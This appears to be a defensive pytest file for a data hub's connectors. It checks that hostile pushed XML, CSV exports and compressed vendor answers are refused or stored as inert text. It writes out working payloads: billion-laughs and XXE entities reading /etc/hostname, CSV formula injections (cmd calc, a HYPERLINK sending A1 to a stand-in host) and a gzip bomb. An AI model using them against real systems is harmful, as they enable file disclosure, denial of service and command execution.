"""Hostile documents through whole connectors and a real hub: the document is set aside with its
reason or kept as mere text, and what came beside it is on file.

The parsers' own attacks are in ``tests/sdk/test_xml.py``, ``tests/sdk/test_csv_text.py``,
``tests/sdk/transports/test_drop.py`` and the connectors' tests. The hub exports no CSV; what it
shows of a formula is JSON text, which no spreadsheet runs.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import zlib
from functools import cache

import pytest
import pytest_asyncio
from aiohttp import web
from hub import until
from made_up import connect, ids, passed

from watchfloor_city import CallChanged, Code
from watchfloor_eido_cad_simulator import EidoCadSimulator
from watchfloor_lpr_rest_simulator import LprRestSimulator
from watchfloor_sdk.simulation import Fault

pytestmark = pytest.mark.asyncio(loop_scope="module")

TOKEN = "not-a-real-token"
MEGABYTES = 400
"""What a bomb unpacks to: more than a worker's memory (256 MB) can hold."""


@cache
def bomb():
    """A gzip of zeros, made piece by piece: the tests' own memory is spared."""
    packer = zlib.compressobj(1, wbits=31)
    pieces = [packer.compress(bytes(1_000_000)) for _ in range(MEGABYTES)]
    return b"".join([*pieces, packer.flush()])


# --- XML that is pushed ------------------------------------------------------------------------

LAUGHS = (
    "<!DOCTYPE IALRT05 ["
    + '<!ENTITY l0 "ha">'
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    + "]><IALRT05><id>&l9;</id></IALRT05>"
).encode()
OUTSIDE = b"""<!DOCTYPE IALRT05 [<!ENTITY x SYSTEM "file:///etc/hostname">]>
<IALRT05><id>&x;</id></IALRT05>"""
QUADRATIC = b'<!DOCTYPE a [<!ENTITY x "' + b"x" * 100_000 + b'">]><a>' + b"&x;" * 100_000 + b"</a>"
PUSHED = {
    "laughs": (LAUGHS, "unsafe_xml"),
    "outside": (OUTSIDE, "unsafe_xml"),
    "quadratic": (QUADRATIC, "unsafe_xml"),
    "parameter": (b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x">%p;]><a/>',
                  "unsafe_xml"),
    "deep": (b"<a>" * 80_000, "unsafe_xml"),
    "bytes": (b"<IALRT05><id>\xff</id></IALRT05>", "not_xml"),
    "an encoding that is not its own":
        ("<?xml version='1.0' encoding='UTF-8'?><IALRT05><id>é</id></IALRT05>".encode("latin-1"),
         "not_xml"),
}  # fmt: skip


def shots(number, encoding="UTF-8"):
    """A detection, in an encoding of its own."""
    return (
        f"<?xml version='1.0' encoding='{encoding}'?><IALRT05><id>{number}</id>"
        "<time>2026-05-02T21:14:07Z</time><simRevision>1</simRevision><simState>created</simState>"
        "<simType>MULTIPLE GUNSHOTS</simType><simRounds>3</simRounds>"
        "<simReviewed>false</simReviewed><simLatitude>29.95</simLatitude>"
        "<simLongitude>-90.07</simLongitude><simAddress>Café Example</simAddress></IALRT05>"
    ).encode(encoding)


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def detections(api):
    config = {"owner": "Example Police Department"}
    wanted = {"connector": "soundthinking-style", "name": "shots", "config": config}
    await api.send("PUT", "/sources/shots", wanted)
    value = {"value": {"token": TOKEN}}
    await api.send("PUT", "/sources/shots/credentials/push_token", value)
    return "shots"


async def push(api, body):
    headers = {"X-Push-Token": TOKEN, "Content-Type": "text/xml"}
    return await api.knock("shots", body, headers)


@pytest.mark.parametrize("attack", PUSHED)
async def test_pushed_xml_is_set_aside_with_its_reason_and_what_follows_is_kept(
    api, detections, attack
):
    body, code = PUSHED[attack]
    number = f"9{list(PUSHED).index(attack):05}"
    assert (await push(api, body)).status < 300, "it is durable before anything looks into it"
    assert (await push(api, shots(number))).status < 300
    [letter] = await until(lambda: api.dead("shots"), deadline_s=20)
    assert letter["code"] == code
    await until(lambda: heard(api, number), deadline_s=20)
    assert (await api.source("shots"))["state"] == "running"
    await api.send("POST", "/dead-letters/drop", {"ids": [letter["id"]]})


async def heard(api, number):
    return any(number in each for each in ids(await api.events(source="shots")))


@pytest.mark.parametrize("encoding", ["UTF-16", "ISO-8859-1", "windows-1252"])
async def test_pushed_xml_in_other_encodings_is_read_as_it_says(api, detections, encoding):
    number = {"UTF-16": "800016", "ISO-8859-1": "800001", "windows-1252": "800052"}[encoding]
    assert (await push(api, shots(number, encoding))).status < 300
    await until(lambda: heard(api, number), deadline_s=20)
    [event] = [one for one in await api.events(source="shots") if number in one["id"]]
    whole = await api.get(f"/events/{event['seq']}")
    assert "Café Example" in json.dumps(whole, ensure_ascii=False)


# --- XML inside of JSON ------------------------------------------------------------------------


def made(number):
    return CallChanged(
        at=passed(0).at, call_number=f"Z-{number:05}", status="Active",
        type=Code("94", "DISCHARGING FIREARM"), initial_type=Code("94", "DISCHARGING FIREARM"),
        priority=1, point_error_m=60.0, created=passed(0).at, point=(-90.03, 29.98),
        address="030XX Example Ave",
    )  # fmt: skip


def poisoned(document):
    """Each location's XML becomes an attack."""
    if isinstance(document, dict):
        return {
            name: LAUGHS.decode() if name == "locationByValue" else poisoned(value)
            for name, value in document.items()
        }
    return [poisoned(one) for one in document] if isinstance(document, list) else document


async def attacked(request, handler):
    answer = await handler(request)
    body = json.dumps(poisoned(json.loads(answer.body))).encode()
    assert b"DOCTYPE" in body
    return web.Response(body=body, content_type="application/json")


async def test_a_call_whose_location_is_an_attack_comes_without_it(api):
    vendor = EidoCadSimulator("snapshots")
    setup = await vendor.start()
    try:
        vendor.faults.add(Fault("attacked", attacked), path="/EIDO")
        vendor.feed(made(1))
        await connect(api, "eido", setup, every_s=0.2)
        await until(lambda: api.events(source="eido"), deadline_s=20)
        vendor.feed(made(2))
        await until(lambda: two(api), deadline_s=20)
        first, second = [
            await api.get(f"/events/{one['seq']}")
            for one in sorted(await api.events(source="eido"), key=lambda one: one["seq"])[:2]
        ]
        assert "haha" not in json.dumps(first)
        assert not place(first).get("point")
        assert place(second)["point"]
        assert (await api.source("eido"))["state"] == "running"
    finally:
        await api.call("DELETE", "/sources/eido")
        await vendor.stop()


async def two(api):
    return len(await api.events(source="eido")) >= 2


def place(whole):
    event = whole.get("event", whole)
    return event["data"].get("place") or {}


# --- files -------------------------------------------------------------------------------------

HEADER = [
    "item_number", "rtcc_signal_code", "rtcc_research_outcome", "Type", "TypeText", "Priority",
    "InitialType", "InitialTypeText", "InitialPriority", "MapX", "MapY", "TimeCreate",
    "TimeDispatch", "TimeArrive", "TimeClosed", "Disposition", "DispositionText",
    "SelfInitiated", "Beat", "BLOCK_ADDRESS", "Zip", "PoliceDistrict", "Location", "longitude",
    "latitude",
]  # fmt: skip
NUMBERS = itertools.count()
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Active")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def rows(*texts, first=1):
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    for number, text in enumerate(texts, first):
        known = {
            "item_number": f"Z{number:07}", "Type": "94", "TypeText": text, "Priority": "2D",
            "TimeCreate": "5/2/2022 16:14", "BLOCK_ADDRESS": "030XX Example Ave",
            "Location": "POINT (-90.034 29.987)",
        }  # fmt: skip
        writer.writerow([known.get(name, "") for name in HEADER])
    return out.getvalue()


@pytest_asyncio.fixture(loop_scope="module")
async def exports(api, tmp_path):
    """A folder in which dispatch drops its exports, and the source that reads it."""
    folder = tmp_path / "exports"
    folder.mkdir()
    (folder / "0.csv").write_text(",".join(HEADER) + "\n" + rows("FIRST"))
    config = {"mapping": "new-orleans", "path": str(folder), "pattern": "*.csv*", "every_s": 0.2}
    source = f"exports-{next(NUMBERS)}"
    wanted = {"connector": "cad-file", "name": source, "config": config}
    await api.send("PUT", f"/sources/{source}", wanted)
    yield folder, source
    await api.send("DELETE", f"/sources/{source}")


async def texts(api, source, count):
    """The calls' types as the hub hands them out, once there are so many."""
    events = await api.events(source=source)
    if len(events) < count:
        return None
    whole = [await api.get(f"/events/{one['seq']}") for one in events]
    return [one.get("event", one)["data"]["incident_type"]["text"] for one in whole]


def written(folder, name, content):
    """As a careful sender does it: under another name first."""
    (folder / f".{name}").write_bytes(content)
    (folder / f".{name}").rename(folder / name)


async def test_formulas_are_text_to_the_letter(api, exports):
    """Neither run nor mangled: the record is evidence."""
    folder, id = exports
    head = ",".join(HEADER) + "\n"
    written(folder, "1.csv", (head + rows(*FORMULAS, first=10)).encode())
    got = await until(lambda: texts(api, id, 1 + len(FORMULAS)), deadline_s=20)
    assert {text.strip() for text in FORMULAS} <= {text.strip() for text in got}
    answer = await api.call("GET", "/events", source=id)
    assert answer.headers["Content-Type"].startswith("application/json")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


async def test_two_encodings_in_one_file_are_read_row_by_row(api, exports):
    folder, id = exports
    head = (",".join(HEADER) + "\n").encode()
    mixed = rows("CAFÉ ONE", first=20).encode() + rows("CAFÉ TWO", first=21).encode("cp1252")
    written(folder, "1.csv", head + mixed + rows("PLAIN", first=22).encode())
    await until(lambda: kept_or_said(api, id, 4), deadline_s=20)
    got = await texts(api, id, 2)
    assert "PLAIN" in got
    assert "CAFÉ ONE" in got
    assert not any("\ufffd" in text or "Ã" in text for text in got), "no guess that mangles"


async def kept_or_said(api, id, count):
    source = await api.source(id)
    return source["events_total"] + source["dead_total"] >= count


@pytest.mark.slow
async def test_a_packed_bomb_is_refused_by_name_and_once_it_is_gone_the_rest_is_read(api, exports):
    folder, id = exports
    written(folder, "1.csv.gz", bomb())
    source = await until(lambda: refused(api, id), deadline_s=30)
    assert (source["state"], source["code"]) == ("needs_attention", "too_large")
    assert "1.csv.gz" in source["reason"]
    (folder / "1.csv.gz").unlink()
    head = ",".join(HEADER) + "\n"
    written(folder, "2.csv", (head + rows("AFTER THE BOMB", first=30)).encode())
    await api.send("POST", f"/sources/{id}/restart")
    assert "AFTER THE BOMB" in await until(lambda: texts(api, id, 2), deadline_s=30)


async def refused(api, id):
    source = await api.source(id)
    return source if source["code"] else None


# --- answers -----------------------------------------------------------------------------------


@pytest.mark.slow
async def test_an_answer_that_unpacks_without_end_is_left(api):
    """The bomb comes as the vendor's compressed answer: the worker lives and says so; nothing is
    lost once it is over."""

    async def bombed(*_):
        headers = {"Content-Encoding": "gzip", "Content-Type": "application/json"}
        return web.Response(body=bomb(), headers=headers)

    vendor = LprRestSimulator()
    setup = await vendor.start()
    try:
        vendor.faults.always(Fault("bomb", bombed), path="/reads")
        for number in range(5):
            vendor.feed(passed(number))
        await connect(api, "bombed", setup, every_s=0.2)
        source = await until(lambda: troubled(api), deadline_s=30)
        assert source["code"] == "body_too_large", source
        assert source["memory_mb"] is None or source["memory_mb"] < MEGABYTES / 2
        vendor.faults.clear()
        await api.send("POST", "/sources/bombed/restart")
        await until(lambda: api.events(source="bombed"), deadline_s=20)
        assert ids(await api.events(source="bombed")) == sorted(vendor.ledger)
    finally:
        await api.send("DELETE", "/sources/bombed")
        await vendor.stop()


async def troubled(api):
    source = await api.source("bombed")
    return source if source["code"] else None
